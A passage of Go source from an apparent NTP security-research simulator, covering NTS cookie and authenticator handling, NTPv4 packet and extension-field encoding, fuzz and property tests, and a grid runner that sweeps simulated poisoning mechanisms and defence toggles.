	body := make([]byte, 0, 4+len(nonce)+len(plaintext)+ntsTagSize)
	body = binary.BigEndian.AppendUint16(body, uint16(len(nonce)))
	body = binary.BigEndian.AppendUint16(body, uint16(len(plaintext)+ntsTagSize))
	body = append(body, nonce...)
	body = aead.Seal(body, nonce, plaintext, ad)
	return ntpwire.AppendExtension(dst, ntpwire.ExtNTSAuthenticator, body)
}

// VerifyRequest authenticates an NTS-protected request datagram. It
// splits raw, locates the unique-identifier, cookie and authenticator
// fields, opens the cookie under the master key, and checks the
// authenticator AEAD over everything preceding it. On success st holds
// the session keys and unique identifier for SealResponse.
func (s *NTSServer) VerifyRequest(raw []byte, st *NTSRequest) bool {
	ext, mac, ok := ntpwire.SplitAuth(raw)
	if !ok || len(mac) != 0 {
		return false
	}
	var uid, cookie, authBody []byte
	authStart := -1
	it := ntpwire.IterExtensions(ext)
	for {
		typ, body, more := it.Next()
		if !more {
			break
		}
		switch typ {
		case ntpwire.ExtUniqueIdentifier:
			if len(body) >= UIDSize {
				uid = body[:UIDSize]
			}
		case ntpwire.ExtNTSCookie:
			if len(body) >= CookieSize {
				cookie = body[:CookieSize]
			}
		case ntpwire.ExtNTSAuthenticator:
			authBody = body
			authStart = it.Start()
		}
	}
	if uid == nil || cookie == nil || authBody == nil {
		return false
	}
	if !s.OpenCookie(cookie, &st.C2S, &st.S2C) {
		return false
	}
	nonce, ct, ok := parseAuthenticator(authBody)
	if !ok {
		return false
	}
	c2sAEAD, err := newAESGCM(st.C2S[:])
	if err != nil {
		return false
	}
	ad := raw[:ntpwire.PacketSize+authStart]
	if _, err := c2sAEAD.Open(nil, nonce, ct, ad); err != nil {
		return false
	}
	copy(st.UID[:], uid)
	return true
}

// SealResponse appends the NTS response extensions to the encoded reply
// in out: the echoed unique identifier, then an authenticator sealed
// with the session's s2c key whose ciphertext carries one fresh cookie
// (the RFC 8915 cookie-replenishment rule, keeping the client's supply
// steady at one cookie consumed, one returned).
func (s *NTSServer) SealResponse(out []byte, st *NTSRequest) []byte {
	out = ntpwire.AppendExtension(out, ntpwire.ExtUniqueIdentifier, st.UID[:])
	fresh := s.MintCookie(make([]byte, 0, CookieSize), &st.C2S, &st.S2C)
	s2cAEAD, err := newAESGCM(st.S2C[:])
	if err != nil {
		return out
	}
	var nonce [ntsNonceSize]byte
	copy(nonce[:], s.nextNonce())
	return appendAuthenticator(out, s2cAEAD, nonce[:], fresh)
}

// NTSSession is one client association's NTS state after key
// establishment: the session keys, the cookie pool, and the unique
// identifier of the in-flight request. Not safe for concurrent use.
type NTSSession struct {
	c2s, s2c [ntsKeySize]byte
	c2sAEAD  cipher.AEAD
	s2cAEAD  cipher.AEAD
	cookies  [][]byte
	ctr      uint64
	lastUID  [UIDSize]byte
	pending  bool
}

func deriveHalf(seed int64, label byte) (key [ntsKeySize]byte) {
	var material [9]byte
	binary.BigEndian.PutUint64(material[:8], uint64(seed))
	material[8] = label
	sum := sha256.Sum256(material[:])
	copy(key[:], sum[:ntsKeySize])
	return key
}

// Establish models the NTS-KE phase for one association: client and
// server agree on c2s/s2c keys derived from seed (standing in for the
// TLS exporter secret) and the client walks away with n initial cookies
// minted by srv.
func Establish(srv *NTSServer, seed int64, n int) (*NTSSession, error) {
	sess := &NTSSession{
		c2s: deriveHalf(seed, 'c'),
		s2c: deriveHalf(seed, 's'),
	}
	var err error
	if sess.c2sAEAD, err = newAESGCM(sess.c2s[:]); err != nil {
		return nil, err
	}
	if sess.s2cAEAD, err = newAESGCM(sess.s2c[:]); err != nil {
		return nil, err
	}
	for i := 0; i < n; i++ {
		sess.cookies = append(sess.cookies, srv.MintCookie(make([]byte, 0, CookieSize), &sess.c2s, &sess.s2c))
	}
	return sess, nil
}

// Cookies returns the number of unused cookies in the pool.
func (c *NTSSession) Cookies() int { return len(c.cookies) }

// SealRequest appends the NTS request extensions (fresh unique
// identifier, one cookie from the pool, authenticator over the whole
// packet) to the encoded 48-byte request in dst. ok is false when the
// cookie pool is empty — the caller must re-establish, exactly the
// state an NTS client reaches after too many lost responses.
func (c *NTSSession) SealRequest(dst []byte) ([]byte, bool) {
	if len(c.cookies) == 0 {
		return dst, false
	}
	cookie := c.cookies[0]
	c.cookies = c.cookies[1:]
	c.ctr++
	var material [ntsKeySize + 8]byte
	copy(material[:], c.c2s[:])
	binary.BigEndian.PutUint64(material[ntsKeySize:], c.ctr)
	sum := sha256.Sum256(material[:])
	copy(c.lastUID[:], sum[:UIDSize])
	c.pending = true

	dst = ntpwire.AppendExtension(dst, ntpwire.ExtUniqueIdentifier, c.lastUID[:])
	dst = ntpwire.AppendExtension(dst, ntpwire.ExtNTSCookie, cookie)
	var nonce [ntsNonceSize]byte
	binary.BigEndian.PutUint64(nonce[ntsNonceSize-8:], c.ctr)
	return appendAuthenticator(dst, c.c2sAEAD, nonce[:], nil), true
}

// VerifyResponse authenticates a response datagram against the
// in-flight request: the unique identifier must echo the one
// SealRequest generated (this is what defeats replay of old responses)
// and the authenticator must verify under s2c. The fresh cookie inside
// the authenticator refills the pool.
func (c *NTSSession) VerifyResponse(raw []byte) bool {
	if !c.pending {
		return false
	}
	ext, mac, ok := ntpwire.SplitAuth(raw)
	if !ok || len(mac) != 0 {
		return false
	}
	var uid, authBody []byte
	authStart := -1
	it := ntpwire.IterExtensions(ext)
	for {
		typ, body, more := it.Next()
		if !more {
			break
		}
		switch typ {
		case ntpwire.ExtUniqueIdentifier:
			if len(body) >= UIDSize {
				uid = body[:UIDSize]
			}
		case ntpwire.ExtNTSAuthenticator:
			authBody = body
			authStart = it.Start()
		}
	}
	if uid == nil || authBody == nil {
		return false
	}
	if string(uid) != string(c.lastUID[:]) {
		return false
	}
	nonce, ct, ok := parseAuthenticator(authBody)
	if !ok {
		return false
	}
	ad := raw[:ntpwire.PacketSize+authStart]
	pt, err := c.s2cAEAD.Open(nil, nonce, ct, ad)
	if err != nil {
		return false
	}
	if len(pt) == CookieSize {
		c.cookies = append(c.cookies, append([]byte(nil), pt...))
	}
	c.pending = false
	return true
}
