package ntpwire

import (
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
	"time"
)

var refTime = time.Date(2020, 6, 1, 12, 30, 45, 123456789, time.UTC)

func TestTimestampRoundTrip(t *testing.T) {
	ts := TimestampFromTime(refTime)
	got := ts.Time()
	if d := got.Sub(refTime); d < -time.Microsecond || d > time.Microsecond {
		t.Errorf("round trip error %v", d)
	}
}

func TestTimestampZero(t *testing.T) {
	if !TimestampFromTime(time.Time{}).IsZero() {
		t.Error("zero time should map to zero timestamp")
	}
	if !Timestamp(0).Time().IsZero() {
		t.Error("zero timestamp should map to zero time")
	}
}

func TestTimestampKnownValue(t *testing.T) {
	// 1900-01-01T00:00:01Z is exactly 1<<32 (one second, zero fraction).
	oneSec := time.Date(1900, 1, 1, 0, 0, 1, 0, time.UTC)
	if got := TimestampFromTime(oneSec); got != 1<<32 {
		t.Errorf("timestamp = %#x, want 1<<32", uint64(got))
	}
	// Half a second is 0x80000000 fraction.
	half := time.Date(1900, 1, 1, 0, 0, 0, 5e8, time.UTC)
	if got := TimestampFromTime(half); got != 0x80000000 {
		t.Errorf("timestamp = %#x, want 0x80000000", uint64(got))
	}
}

func TestShortRoundTrip(t *testing.T) {
	for _, d := range []time.Duration{0, time.Millisecond, 250 * time.Millisecond, 3 * time.Second} {
		s := ShortFromDuration(d)
		got := s.Duration()
		if diff := got - d; diff < -time.Millisecond || diff > time.Millisecond {
			t.Errorf("short round trip of %v gave %v", d, got)
		}
	}
	if ShortFromDuration(-time.Second) != 0 {
		t.Error("negative duration should clamp to 0")
	}
	if ShortFromDuration(100000*time.Second) != Short(0xFFFFFFFF) {
		t.Error("huge duration should saturate")
	}
}

func TestPacketRoundTrip(t *testing.T) {
	p := &Packet{
		Leap: LeapNone, Version: 4, Mode: ModeServer,
		Stratum: 2, Poll: 6, Precision: -23,
		RootDelay: ShortFromDuration(30 * time.Millisecond), RootDispersion: ShortFromDuration(5 * time.Millisecond),
		ReferenceID:   0x47505300, // "GPS\0"
		ReferenceTime: TimestampFromTime(refTime.Add(-10 * time.Second)),
		OriginTime:    TimestampFromTime(refTime),
		ReceiveTime:   TimestampFromTime(refTime.Add(5 * time.Millisecond)),
		TransmitTime:  TimestampFromTime(refTime.Add(6 * time.Millisecond)),
	}
	b := p.Encode()
	if len(b) != PacketSize {
		t.Fatalf("encoded %d bytes", len(b))
	}
	got, err := Decode(b)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(p, got) {
		t.Errorf("round trip mismatch:\n got %+v\nwant %+v", got, p)
	}
}

func TestDecodeShort(t *testing.T) {
	if _, err := Decode(make([]byte, 47)); err == nil {
		t.Error("short packet accepted")
	}
	// Trailing bytes (extensions/MAC) ignored.
	if _, err := Decode(make([]byte, 68)); err != nil {
		t.Errorf("packet with extensions rejected: %v", err)
	}
}

func TestNewClientPacket(t *testing.T) {
	p := NewClientPacket(refTime)
	if p.Mode != ModeClient || p.Version != Version || p.Leap != LeapUnsync {
		t.Errorf("client packet fields: %+v", p)
	}
	if p.TransmitTime.IsZero() {
		t.Error("transmit time unset")
	}
}

func TestOffsetDelaySymmetric(t *testing.T) {
	// Client clock 100ms behind true; symmetric 10ms path each way.
	trueT := refTime
	clientErr := -100 * time.Millisecond
	t1 := trueT.Add(clientErr)
	t2 := trueT.Add(10 * time.Millisecond)
	t3 := trueT.Add(11 * time.Millisecond)
	t4 := trueT.Add(21 * time.Millisecond).Add(clientErr)
	offset, delay := OffsetDelay(t1, t2, t3, t4)
	if diff := offset - 100*time.Millisecond; diff < -time.Millisecond || diff > time.Millisecond {
		t.Errorf("offset = %v, want ~100ms", offset)
	}
	if diff := delay - 20*time.Millisecond; diff < -time.Millisecond || diff > time.Millisecond {
		t.Errorf("delay = %v, want ~20ms", delay)
	}
}

func TestOffsetDelayNegativeDelayClamped(t *testing.T) {
	// Nonsensical timestamps (T3 after T4 by more than the path) give a
	// negative delay; OffsetDelay clamps it.
	t1 := refTime
	t2 := refTime.Add(time.Second)
	t3 := refTime.Add(2 * time.Second)
	t4 := refTime.Add(time.Millisecond)
	_, delay := OffsetDelay(t1, t2, t3, t4)
	if delay != 0 {
		t.Errorf("delay = %v, want clamped 0", delay)
	}
}

// Property: packet encode/decode is the identity for all field values.
func TestPacketRoundTripProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		p := &Packet{
			Leap:           LeapIndicator(rng.Intn(4)),
			Version:        uint8(rng.Intn(8)),
			Mode:           Mode(rng.Intn(8)),
			Stratum:        uint8(rng.Intn(256)),
			Poll:           int8(rng.Intn(256) - 128),
			Precision:      int8(rng.Intn(256) - 128),
			RootDelay:      Short(rng.Uint32()),
			RootDispersion: Short(rng.Uint32()),
			ReferenceID:    rng.Uint32(),
			ReferenceTime:  Timestamp(rng.Uint64()),
			OriginTime:     Timestamp(rng.Uint64()),
			ReceiveTime:    Timestamp(rng.Uint64()),
			TransmitTime:   Timestamp(rng.Uint64()),
		}
		got, err := Decode(p.Encode())
		if err != nil {
			return false
		}
		return reflect.DeepEqual(p, got)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// Property: timestamp conversion error is below one nanosecond-scale
// quantum for times in era 0.
func TestTimestampAccuracyProperty(t *testing.T) {
	base := time.Date(1950, 1, 1, 0, 0, 0, 0, time.UTC)
	f := func(secs uint32, nanos uint32) bool {
		tm := base.Add(time.Duration(secs%2_000_000_000)*time.Second + time.Duration(nanos%1_000_000_000))
		got := TimestampFromTime(tm).Time()
		d := got.Sub(tm)
		if d < 0 {
			d = -d
		}
		return d <= time.Nanosecond
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}
