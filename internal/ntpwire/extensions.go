package ntpwire

import "encoding/binary"

// This file adds the two post-header regions an authenticated NTPv4
// datagram may carry after the 48-byte header: RFC 7822 extension
// fields (type/length framed, 4-byte aligned) and the classic RFC 5905
// symmetric-MAC trailer (4-byte key ID + message digest). The framing
// lives here, next to the header codec, so every consumer — the
// simulated servers, the real-socket wirenet path and the ntpauth
// crypto layer — splits a datagram identically. Like the header codec
// it is allocation-free: AppendExtension writes onto a caller-owned
// buffer and SplitAuth/ExtIter alias the input.
//
// Parsing precedence: extension fields are consumed greedily from
// offset 48; a trailing region that does not parse as a field and has
// a legal MAC length is the symmetric-MAC trailer. RFC 7822 resolves
// the same ambiguity with minimum-length rules; our analogue is that
// ntpauth.KeyTable rejects key IDs whose low 16 bits equal their own
// trailer length, so a real trailer can never masquerade as a field.

const (
	// ExtHeaderSize is the type+length preamble of one extension field.
	ExtHeaderSize = 4
	// MACKeyIDSize is the key-ID prefix of a symmetric MAC trailer.
	MACKeyIDSize = 4
)

// NTS extension-field types (RFC 8915 §7.6 registry values).
const (
	ExtUniqueIdentifier     uint16 = 0x0104
	ExtNTSCookie            uint16 = 0x0204
	ExtNTSCookiePlaceholder uint16 = 0x0304
	ExtNTSAuthenticator     uint16 = 0x0404
)

// IsMACTrailerLen reports whether n is a legal symmetric-MAC trailer
// length: a 4-byte key ID plus an MD5 (16), SHA-1 (20) or SHA-256 (32)
// digest.
func IsMACTrailerLen(n int) bool { return n == 20 || n == 24 || n == 36 }

// AppendExtension appends one extension field (type, body, zero padding
// to a 4-byte boundary) onto dst and returns the extended slice. With
// spare capacity no allocation occurs. Bodies longer than 65531 bytes
// do not fit the 16-bit length field and are rejected by returning dst
// unchanged; real fields here are at most ~100 bytes.
func AppendExtension(dst []byte, typ uint16, body []byte) []byte {
	pad := (4 - len(body)&3) & 3
	total := ExtHeaderSize + len(body) + pad
	if total > 0xFFFF {
		return dst
	}
	var hdr [ExtHeaderSize]byte
	binary.BigEndian.PutUint16(hdr[0:2], typ)
	binary.BigEndian.PutUint16(hdr[2:4], uint16(total))
	dst = append(dst, hdr[:]...)
	dst = append(dst, body...)
	for i := 0; i < pad; i++ {
		dst = append(dst, 0)
	}
	return dst
}

// SplitAuth splits a full datagram into its extension-field region and
// symmetric-MAC trailer, both aliasing b. ok is false when b is shorter
// than a header or the post-header region is malformed (a region that
// neither parses as fields nor ends in a legal MAC length). A bare
// 48-byte packet returns two empty slices and ok.
func SplitAuth(b []byte) (ext, mac []byte, ok bool) {
	if len(b) < PacketSize {
		return nil, nil, false
	}
	rest := b[PacketSize:]
	off := 0
	for {
		rem := len(rest) - off
		if rem == 0 {
			return rest[:off], nil, true
		}
		if rem >= ExtHeaderSize {
			l := int(binary.BigEndian.Uint16(rest[off+2 : off+4]))
			if l >= ExtHeaderSize && l%4 == 0 && l <= rem {
				off += l
				continue
			}
		}
		if IsMACTrailerLen(rem) {
			return rest[:off], rest[off:], true
		}
		return nil, nil, false
	}
}

// ExtIter walks the extension-field region returned by SplitAuth
// without allocating. Bodies alias the region and include any padding
// bytes; consumers with fixed-size contents slice them down.
type ExtIter struct {
	ext   []byte
	off   int
	start int
}

// IterExtensions starts an iteration over ext.
func IterExtensions(ext []byte) ExtIter { return ExtIter{ext: ext} }

// Next returns the next field. ok is false at the end of the region or
// on a malformed field (SplitAuth-validated input never hits the
// latter).
func (it *ExtIter) Next() (typ uint16, body []byte, ok bool) {
	if it.off+ExtHeaderSize > len(it.ext) {
		return 0, nil, false
	}
	l := int(binary.BigEndian.Uint16(it.ext[it.off+2 : it.off+4]))
	if l < ExtHeaderSize || l%4 != 0 || it.off+l > len(it.ext) {
		return 0, nil, false
	}
	it.start = it.off
	typ = binary.BigEndian.Uint16(it.ext[it.off : it.off+2])
	body = it.ext[it.off+ExtHeaderSize : it.off+l]
	it.off += l
	return typ, body, true
}

// Start returns the offset within the extension region of the field
// most recently returned by Next — used to bound the associated data of
// an NTS authenticator, which covers everything before its own field.
func (it *ExtIter) Start() int { return it.start }
