// Package ntpwire implements the NTPv4 on-wire format (RFC 5905): the
// 48-byte packet header and the 64-bit era-0 timestamp representation.
//
// It is the NTP counterpart of dnswire: a pure encode/parse layer with
// no protocol logic, shared by ntpserver, ntpclient and chronos so that
// every exchange in the packet-fidelity simulations crosses the wire as
// real bytes. Timestamps convert between time.Time and the unsigned
// 32.32 fixed-point seconds-since-1900 format; sub-nanosecond rounding
// in that conversion is the only precision loss in the whole simulated
// NTP path. The parser is fuzzed (FuzzParsePacket) since it consumes
// attacker-controlled input in the interception scenarios.
package ntpwire

import (
	"encoding/binary"
	"errors"
	"time"
)

// PacketSize is the size of a bare NTPv4 header (no extensions, no MAC).
const PacketSize = 48

// Port is the well-known NTP UDP port.
const Port = 123

// Mode is the 3-bit association mode.
type Mode uint8

// Association modes (RFC 5905 §7.3).
const (
	ModeSymmetricActive  Mode = 1
	ModeSymmetricPassive Mode = 2
	ModeClient           Mode = 3
	ModeServer           Mode = 4
	ModeBroadcast        Mode = 5
)

// LeapIndicator is the 2-bit leap warning field.
type LeapIndicator uint8

// Leap indicator values.
const (
	LeapNone   LeapIndicator = 0
	LeapAddSec LeapIndicator = 1
	LeapDelSec LeapIndicator = 2
	LeapUnsync LeapIndicator = 3 // clock not synchronised
)

// Version is the NTP version this package speaks.
const Version = 4

// ErrShortPacket is returned when decoding fewer than 48 bytes.
var ErrShortPacket = errors.New("ntpwire: short packet")

// ntpEpoch is the NTP era-0 epoch: 1900-01-01T00:00:00Z.
var ntpEpoch = time.Date(1900, 1, 1, 0, 0, 0, 0, time.UTC)

// Timestamp is a 64-bit NTP timestamp: 32 bits of seconds since the 1900
// epoch, 32 bits of binary fraction. The zero value means "not set"
// (RFC 5905 uses zero-valued timestamps the same way).
type Timestamp uint64

// TimestampFromTime converts a time.Time (era 0: 1900–2036) into an NTP
// timestamp.
func TimestampFromTime(t time.Time) Timestamp {
	if t.IsZero() {
		return 0
	}
	d := t.Sub(ntpEpoch)
	secs := uint64(d / time.Second)
	frac := uint64(d%time.Second) << 32 / uint64(time.Second)
	return Timestamp(secs<<32 | frac)
}

// Time converts the timestamp back to time.Time (era 0). The zero
// timestamp maps to the zero time.
func (ts Timestamp) Time() time.Time {
	if ts == 0 {
		return time.Time{}
	}
	secs := uint64(ts) >> 32
	frac := uint64(ts) & 0xFFFFFFFF
	nanos := frac * uint64(time.Second) >> 32
	return ntpEpoch.Add(time.Duration(secs)*time.Second + time.Duration(nanos))
}

// IsZero reports whether the timestamp is unset.
func (ts Timestamp) IsZero() bool { return ts == 0 }

// Short is the 32-bit NTP short format (16.16 fixed point seconds) used
// for root delay and dispersion.
type Short uint32

// ShortFromDuration converts a duration into NTP short format, saturating.
func ShortFromDuration(d time.Duration) Short {
	if d < 0 {
		d = 0
	}
	secs := d / time.Second
	if secs > 0xFFFF {
		return Short(0xFFFFFFFF)
	}
	frac := (d % time.Second) << 16 / time.Second
	return Short(uint32(secs)<<16 | uint32(frac))
}

// Duration converts the short format back into a duration.
func (s Short) Duration() time.Duration {
	secs := time.Duration(s>>16) * time.Second
	frac := time.Duration(s&0xFFFF) * time.Second >> 16
	return secs + frac
}

// Packet is a decoded NTPv4 header.
type Packet struct {
	Leap      LeapIndicator
	Version   uint8
	Mode      Mode
	Stratum   uint8
	Poll      int8
	Precision int8

	RootDelay      Short
	RootDispersion Short
	ReferenceID    uint32

	ReferenceTime Timestamp
	OriginTime    Timestamp // T1 as echoed by the server
	ReceiveTime   Timestamp // T2
	TransmitTime  Timestamp // T3
}

// Encode serialises the packet into a fresh 48-byte slice.
func (p *Packet) Encode() []byte {
	return p.AppendEncode(make([]byte, 0, PacketSize))
}

// AppendEncode serialises the packet onto dst and returns the extended
// slice. When dst has 48 bytes of spare capacity no allocation occurs —
// this is the hot path of the real-socket server, which reuses one
// response buffer per read loop.
func (p *Packet) AppendEncode(dst []byte) []byte {
	n := len(dst)
	dst = append(dst, make([]byte, PacketSize)...)
	b := dst[n : n+PacketSize]
	b[0] = byte(p.Leap)<<6 | (p.Version&0x7)<<3 | byte(p.Mode)&0x7
	b[1] = p.Stratum
	b[2] = byte(p.Poll)
	b[3] = byte(p.Precision)
	binary.BigEndian.PutUint32(b[4:8], uint32(p.RootDelay))
	binary.BigEndian.PutUint32(b[8:12], uint32(p.RootDispersion))
	binary.BigEndian.PutUint32(b[12:16], p.ReferenceID)
	binary.BigEndian.PutUint64(b[16:24], uint64(p.ReferenceTime))
	binary.BigEndian.PutUint64(b[24:32], uint64(p.OriginTime))
	binary.BigEndian.PutUint64(b[32:40], uint64(p.ReceiveTime))
	binary.BigEndian.PutUint64(b[40:48], uint64(p.TransmitTime))
	return dst
}

// Decode parses a 48-byte NTPv4 header. Extra bytes (extensions, MACs)
// are ignored.
func Decode(b []byte) (*Packet, error) {
	p := new(Packet)
	if err := DecodeInto(p, b); err != nil {
		return nil, err
	}
	return p, nil
}

// DecodeInto parses a 48-byte NTPv4 header into p, which is overwritten
// entirely. It is the allocation-free counterpart of Decode for callers
// that reuse one Packet per read loop.
func DecodeInto(p *Packet, b []byte) error {
	if len(b) < PacketSize {
		return ErrShortPacket
	}
	*p = Packet{
		Leap:           LeapIndicator(b[0] >> 6),
		Version:        b[0] >> 3 & 0x7,
		Mode:           Mode(b[0] & 0x7),
		Stratum:        b[1],
		Poll:           int8(b[2]),
		Precision:      int8(b[3]),
		RootDelay:      Short(binary.BigEndian.Uint32(b[4:8])),
		RootDispersion: Short(binary.BigEndian.Uint32(b[8:12])),
		ReferenceID:    binary.BigEndian.Uint32(b[12:16]),
		ReferenceTime:  Timestamp(binary.BigEndian.Uint64(b[16:24])),
		OriginTime:     Timestamp(binary.BigEndian.Uint64(b[24:32])),
		ReceiveTime:    Timestamp(binary.BigEndian.Uint64(b[32:40])),
		TransmitTime:   Timestamp(binary.BigEndian.Uint64(b[40:48])),
	}
	return nil
}

// ValidServerResponse reports whether p is an acceptable reply to a
// client request transmitted at t1: a mode-4 packet from a synchronised
// server (stratum 0 is the Kiss-o'-Death range) that echoes the client's
// transmit timestamp in its origin field. The origin check is what
// defeats blind off-path spoofing of NTP itself; ntpclient, chronos and
// the wirenet transports all apply the same predicate.
func ValidServerResponse(p *Packet, t1 Timestamp) bool {
	return p.Mode == ModeServer && p.Stratum != 0 && p.OriginTime == t1
}

// NewClientPacket builds a mode-3 request with TransmitTime = t1 (the
// client's clock reading at transmission).
func NewClientPacket(t1 time.Time) *Packet {
	p := &Packet{}
	FillClientPacket(p, t1)
	return p
}

// FillClientPacket writes a mode-3 request into p, which may live on the
// caller's stack — the allocation-free form of NewClientPacket for poll
// loops that send millions of requests.
func FillClientPacket(p *Packet, t1 time.Time) {
	*p = Packet{
		Leap:         LeapUnsync,
		Version:      Version,
		Mode:         ModeClient,
		Poll:         6,
		Precision:    -20,
		TransmitTime: TimestampFromTime(t1),
	}
}

// OffsetDelay computes the canonical NTP clock offset and round-trip delay
// from the four timestamps of one exchange (RFC 5905 §8):
//
//	offset = ((T2 − T1) + (T3 − T4)) / 2
//	delay  =  (T4 − T1) − (T3 − T2)
//
// where T1/T4 are client clock readings and T2/T3 server clock readings.
func OffsetDelay(t1, t2, t3, t4 time.Time) (offset, delay time.Duration) {
	offset = (t2.Sub(t1) + t3.Sub(t4)) / 2
	delay = t4.Sub(t1) - t3.Sub(t2)
	if delay < 0 {
		delay = 0
	}
	return offset, delay
}
