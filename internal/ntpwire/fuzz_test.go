package ntpwire

import (
	"bytes"
	"testing"
	"time"
)

// FuzzParsePacket hammers the NTP header decoder with arbitrary bytes.
// Like the DNS decoder, it sits on the attack surface — every spoofed or
// attacker-controlled NTP response passes through it — so it must never
// panic, must reject exactly the under-sized inputs, and everything it
// accepts must survive a bit-exact re-encode of the 48-byte header
// (every field maps to fixed bits, so the round trip is lossless).
func FuzzParsePacket(f *testing.F) {
	// Seed corpus: the packet shapes the reproduction exchanges.
	t1 := time.Date(2020, 6, 1, 0, 0, 0, 123456789, time.UTC)
	f.Add(NewClientPacket(t1).Encode())
	resp := &Packet{
		Leap:           LeapNone,
		Version:        Version,
		Mode:           ModeServer,
		Stratum:        2,
		Poll:           6,
		Precision:      -23,
		RootDelay:      ShortFromDuration(5 * time.Millisecond),
		RootDispersion: ShortFromDuration(time.Millisecond),
		ReferenceID:    0x53494D00,
		ReferenceTime:  TimestampFromTime(t1.Add(-30 * time.Second)),
		OriginTime:     TimestampFromTime(t1),
		ReceiveTime:    TimestampFromTime(t1.Add(2 * time.Millisecond)),
		TransmitTime:   TimestampFromTime(t1.Add(2*time.Millisecond + 10*time.Microsecond)),
	}
	f.Add(resp.Encode())
	// Adversarial shapes: empty, truncated header, all-ones, mode/leap
	// bit soup, and a packet with a trailing extension blob.
	f.Add([]byte{})
	f.Add(bytes.Repeat([]byte{0x00}, PacketSize-1))
	f.Add(bytes.Repeat([]byte{0xFF}, PacketSize))
	f.Add(append([]byte{0xE7}, bytes.Repeat([]byte{0xA5}, PacketSize+20)...))

	f.Fuzz(func(t *testing.T, data []byte) {
		p, err := Decode(data)
		if len(data) < PacketSize {
			if err == nil {
				t.Fatalf("decoded a %d-byte packet", len(data))
			}
			return
		}
		if err != nil {
			t.Fatalf("rejected a %d-byte packet: %v", len(data), err)
		}
		// The 48-byte header must round-trip bit-exactly: leap(2) +
		// version(3) + mode(3) fill the first byte, every other field is
		// a whole-byte slice.
		if got := p.Encode(); !bytes.Equal(got, data[:PacketSize]) {
			t.Fatalf("re-encode changed the header:\n in: %x\nout: %x", data[:PacketSize], got)
		}
		// And the decoded view of the re-encoding must match field for
		// field.
		p2, err := Decode(p.Encode())
		if err != nil {
			t.Fatalf("re-decode failed: %v", err)
		}
		if *p2 != *p {
			t.Fatalf("round trip changed fields: %+v vs %+v", p, p2)
		}
	})
}
