package runner

import (
	"fmt"

	"chronosntp/internal/core"
)

// Toggle is a named mitigation (or any other) configuration mutation — one
// value of the grid's defence dimension.
type Toggle struct {
	Name  string
	Apply func(*core.Config)
}

// NoToggle is the identity defence ("none").
func NoToggle() Toggle {
	return Toggle{Name: "none", Apply: func(*core.Config) {}}
}

// Grid is a cartesian experiment specification. Empty dimensions collapse
// to the base config's value, so a Grid with only Seeds set is a plain
// repeated-trial Monte-Carlo run.
type Grid struct {
	Base          core.Config
	Seeds         []int64
	Mechanisms    []core.Mechanism
	PoisonQueries []int
	Toggles       []Toggle
}

// Seeds returns n consecutive seeds starting at base — the replica
// dimension of a grid.
func Seeds(base int64, n int) []int64 {
	out := make([]int64, n)
	for i := range out {
		out[i] = base + int64(i)
	}
	return out
}

// Trials expands the grid in deterministic order: toggles outermost, then
// mechanisms, then poison queries, then seeds — so consecutive indices are
// the Monte-Carlo replicas of a single grid point, and every point's
// replicas share a Point label.
func (g Grid) Trials() []Trial {
	toggles := g.Toggles
	if len(toggles) == 0 {
		toggles = []Toggle{NoToggle()}
	}
	mechanisms := g.Mechanisms
	if len(mechanisms) == 0 {
		mechanisms = []core.Mechanism{g.Base.Mechanism}
	}
	queries := g.PoisonQueries
	if len(queries) == 0 {
		queries = []int{g.Base.PoisonQuery}
	}
	seeds := g.Seeds
	if len(seeds) == 0 {
		seeds = []int64{g.Base.Seed}
	}

	var out []Trial
	for _, tog := range toggles {
		for _, mech := range mechanisms {
			for _, q := range queries {
				resolve := func(seed int64) core.Config {
					cfg := g.Base
					cfg.Seed = seed
					if mech != 0 {
						cfg.Mechanism = mech
					}
					if q != 0 {
						cfg.PoisonQuery = q
					}
					if tog.Apply != nil {
						tog.Apply(&cfg)
					}
					return cfg
				}
				// Label from the resolved config, not the raw dimension
				// values: a toggle may override the swept mechanism or
				// poison query (e.g. the all-vs-24h-hijack defence), and
				// the label must describe what actually runs. Identical
				// resolved points then share a label and aggregate
				// together instead of appearing as contradictory rows.
				point := pointLabel(tog, resolve(seeds[0]), g)
				for _, seed := range seeds {
					out = append(out, Trial{Index: len(out), Point: point, Config: resolve(seed)})
				}
			}
		}
	}
	return out
}

// pointLabel names a grid point from its resolved (post-toggle) config,
// listing only the dimensions the grid actually sweeps.
func pointLabel(tog Toggle, cfg core.Config, g Grid) string {
	label := ""
	add := func(s string) {
		if label != "" {
			label += " "
		}
		label += s
	}
	if len(g.Mechanisms) > 0 {
		add(fmt.Sprintf("mechanism=%s", cfg.Mechanism))
	}
	if len(g.PoisonQueries) > 0 {
		add(fmt.Sprintf("poison-query=%d", cfg.PoisonQuery))
	}
	if len(g.Toggles) > 0 {
		add(fmt.Sprintf("defence=%s", tog.Name))
	}
	if label == "" {
		label = "base"
	}
	return label
}

// Points returns the distinct Point labels in grid order.
func Points(trials []Trial) []string {
	var out []string
	seen := make(map[string]bool)
	for _, t := range trials {
		if !seen[t.Point] {
			seen[t.Point] = true
			out = append(out, t.Point)
		}
	}
	return out
}

// ByPoint groups results by their trial's Point label, preserving trial
// order within each group. results must be positionally aligned with
// trials (as returned by Run).
func ByPoint(trials []Trial, results []*core.Result) map[string][]*core.Result {
	out := make(map[string][]*core.Result)
	for i, t := range trials {
		if i < len(results) && results[i] != nil {
			out[t.Point] = append(out[t.Point], results[i])
		}
	}
	return out
}
