package runner

import (
	"context"
	"errors"
	"reflect"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"chronosntp/internal/core"
	"chronosntp/internal/stats"
)

// smallGrid is a fast but real grid: 2 mechanisms × 2 poison queries × 2
// seeds of a reduced scenario (~3 ms per trial).
func smallGrid() Grid {
	return Grid{
		Base: core.Config{
			PoolQueries:      6,
			BenignServers:    40,
			MaliciousServers: 15,
		},
		Seeds:         Seeds(1, 2),
		Mechanisms:    []core.Mechanism{core.Defrag, core.BGPHijack},
		PoisonQueries: []int{2, 4},
	}
}

func TestGridTrials(t *testing.T) {
	trials := smallGrid().Trials()
	if len(trials) != 8 {
		t.Fatalf("trials = %d, want 8", len(trials))
	}
	for i, tr := range trials {
		if tr.Index != i {
